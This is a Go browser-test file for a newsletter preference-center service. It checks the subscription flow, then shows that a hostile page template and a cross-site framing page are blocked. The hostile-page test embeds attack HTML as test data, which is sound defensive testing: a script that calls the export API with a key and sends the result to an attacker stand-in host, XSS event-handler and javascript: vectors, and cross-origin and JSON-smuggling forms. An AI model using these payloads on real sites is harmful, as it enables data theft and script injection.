package api

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"millrace/api/center"
	"millrace/api/control/document"
	"millrace/loadtest/testbrowser"
)

// tab is a tab of a headless Chromium.
type tab struct {
	t   *testing.T
	ctx context.Context
}

// openBrowser starts one, or skips the test where there is none. MILLRACE_SCREENSHOTS names a folder for pictures.
func openBrowser(t *testing.T) tab { return tab{t, testbrowser.Open(t, 900, 820)} }

func run[T any](b tab, action chromedp.Action[T]) T {
	b.t.Helper()
	v, err := chromedp.Run(b.ctx, action)
	require.NoError(b.t, err)
	return v
}

// open loads a page and waits until it is there.
func (b tab) open(url string) { b.t.Helper(); run(b, chromedp.Navigate(url)) }

func (b tab) click(selector string) { b.t.Helper(); run(b, chromedp.Click(chromedp.CSS(selector))) }

// submit clicks, and waits for the page that comes of it.
func (b tab) submit(selector string) (status int64) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	response, err := chromedp.RunResponse(ctx, chromedp.Click(chromedp.CSS(selector)))
	require.NoError(b.t, err)
	return response.Status
}

// text is what a user reads.
func (b tab) text(selector string) string {
	b.t.Helper()
	return strings.TrimSpace(run(b, chromedp.TextContent(chromedp.CSS(selector))))
}

func (b tab) shoot(name string) {
	if dir := os.Getenv("MILLRACE_SCREENSHOTS"); dir != "" {
		require.NoError(b.t, os.WriteFile(filepath.Join(dir, name+".png"), run(b, chromedp.CaptureScreenshot()), 0o644))
	}
}

// The flow as a user goes through it: what is shown, what is clicked, what comes of it.
func TestBrowser(t *testing.T) {
	b := openBrowser(t)
	h := openHosting(t, pagePreferences)
	page := "http://" + h.addr + h.link("ada")
	b.open(page)
	require.Equal(t, "subscribed unknown unknown [] Ada+x@example.com", b.text("#state"))
	require.Equal(t, "Choose & save", run(b, chromedp.Title()))
	b.click(`input[value="opted_in"]`)
	b.click(`input[type="checkbox"]`)
	require.Equal(t, int64(200), b.submit("button"))
	require.Equal(t, page+"?saved", run(b, chromedp.Location()))
	require.Equal(t, "Saved: opted_in", b.text("p"))
	email, groups := h.states("ada")
	require.Equal(t, "opted_in", email)
	require.Equal(t, map[string]string{newsGroup: "Subscribed"}, groups)

	// Loading the confirmation again sends nothing again.
	require.Equal(t, 201, h.call("POST", "/users/track", demoKey, `{"attributes":[{"external_id":"ada","email_subscribe":"subscribed"}]}`).status)
	run(b, chromedp.Reload())
	require.Equal(t, "Saved: subscribed", b.text("p"))

	// The page knows what was chosen. The tick is taken out, and nothing else becomes different.
	b.open(page)
	require.Equal(t, "subscribed subscribed unknown [] Ada+x@example.com", b.text("#state"))
	b.click(`input[type="checkbox"]`)
	require.Equal(t, int64(200), b.submit("button"))
	email, groups = h.states("ada")
	require.Equal(t, "subscribed", email)
	require.Equal(t, map[string]string{newsGroup: "Unsubscribed"}, groups)

	// Our own pages.
	b.open("http://" + h.addr + center.Path + "nothing")
	require.Equal(t, "There is no such page", b.text("h1"))
	b.shoot("notice")
}

// strangers is a server that pages may want to reach, and must not: it writes down who comes.
type strangers struct {
	*httptest.Server
	mu     sync.Mutex
	visits []string
	page   string // what it serves at /page
}

func openStrangers(t *testing.T) *strangers {
	s := new(strangers)
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		if r.URL.Path == "/page" {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, s.page)
			return
		}
		if r.URL.Path != "/favicon.ico" {
			s.visits = append(s.visits, r.Method+" "+r.URL.String())
		}
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *strangers) visited() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.visits...)
}

// A page of hostile HTML: what it tries does not happen.
func TestBrowserHostilePage(t *testing.T) {
	b := openBrowser(t)
	evil := openStrangers(t)
	h := openHosting(t, "x", func(o *Options) { o.AccessLog = true })
	h.user("bob", "bob@example.com")
	bob := h.link("bob")
	h.change(func(p *document.PreferenceCenter) {
		p.PageHTML = strings.NewReplacer("EVIL", evil.URL, "BOB", bob, "KEY", demoKey).Replace(`<!doctype html><html><head><title>Mail</title>
<base href="EVIL/base/">
<meta http-equiv="refresh" content="1;url=EVIL/refresh">
<link rel="stylesheet" href="EVIL/style.css"><link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="script" href="EVIL/preload.js">
<script>document.title = "script"; fetch("/users/export/ids", {method: "POST", headers: {Authorization: "Bearer KEY"}, body: '{"external_ids":["bob"]}'})
  .then(r => r.text()).then(text => fetch("EVIL/stolen?" + encodeURIComponent(text)));</script>
<script src="EVIL/script.js"></script>
</head><body onload="document.title='onload'">
<h1 onclick="document.title='onclick'">Hello</h1>
<svg onload="document.title='svg'"></svg><img src="x:" onerror="document.title='onerror'"><img src="EVIL/image">
<iframe id="bob" src="BOB"></iframe><iframe srcdoc="<script>parent.document.title='srcdoc'</script>"></iframe><object data="BOB"></object><embed src="EVIL/embed">
<video autoplay src="EVIL/video"></video><a id="popup" target="_blank" href="EVIL/popup">popup</a><a id="js" href="javascript:document.title='href'">js</a>
<form id="away" action="EVIL/form" method="post"><input name="{% form_field_name :email_global_state %}" value="unsubscribed"><button id="send">Send</button></form>
<form id="api" action="/users/track" method="post" enctype="text/plain"><input name='{"attributes":[{"external_id":"bob","x":"' value='"}]}'><button id="call">Call</button></form>
<form action="{{preference_center_submit_url}}" method="post"><input type="hidden" name="{% form_field_name :email_global_state %}" value="opted_in"><button id="save">Save</button></form>
</body></html>`)
	})
	page := "http://" + h.addr + h.link("ada")
	b.open(page)
	b.click("h1")
	b.click("#js")
	b.click("#popup")
	b.click("#send") // another origin
	require.Equal(t, page, run(b, chromedp.Location()), "the form went nowhere")
	require.Equal(t, "Mail", run(b, chromedp.Title()), "no script ran")

	// The address of its own form works, whatever <base> says; and by now the refresh would have come.
	require.Equal(t, int64(200), b.submit("#save"))
	require.Equal(t, page+"?saved", run(b, chromedp.Location()))
	email, _ := h.states("ada")
	require.Equal(t, "opted_in", email)
	require.Empty(t, evil.visited())

	// A form may go to the API, which is on this server; it has no key, and cannot get one.
	b.open(page)
	require.Equal(t, int64(401), b.submit("#call"))

	log := h.logged()
	require.Equal(t, 1, strings.Count(log, "route=/users/export/ids"), "the test has asked, the page has not")
	require.Equal(t, 4, strings.Count(log, "route=/preferences/{token}"), "the page twice, form and confirmation once: nobody else's page was loaded")
}

// Another site cannot show a page in a frame.
func TestBrowserFraming(t *testing.T) {
	b := openBrowser(t)
	evil := openStrangers(t)
	h := openHosting(t, pagePreferences)
	page := "http://" + h.addr + h.link("ada")
	evil.page = `<title>start</title><iframe src="` + page + `"></iframe>
<script>fetch("` + page + `").then(r => r.text()).then(() => document.title = "read", () => document.title = "refused")</script>`
	console := chromedp.Console(b.ctx)
	b.open(evil.URL + "/page")
	run(b, chromedp.Poll[bool](`document.title != "start"`))
	require.Equal(t, "refused", run(b, chromedp.Title()), "no other site reads a page")
	for m, err := range console { // the browser says why the frame stays empty
		require.NoError(t, err)
		if strings.Contains(m.Text, "frame-ancestors") {
			break
		}
	}
	b.shoot("framed")
}
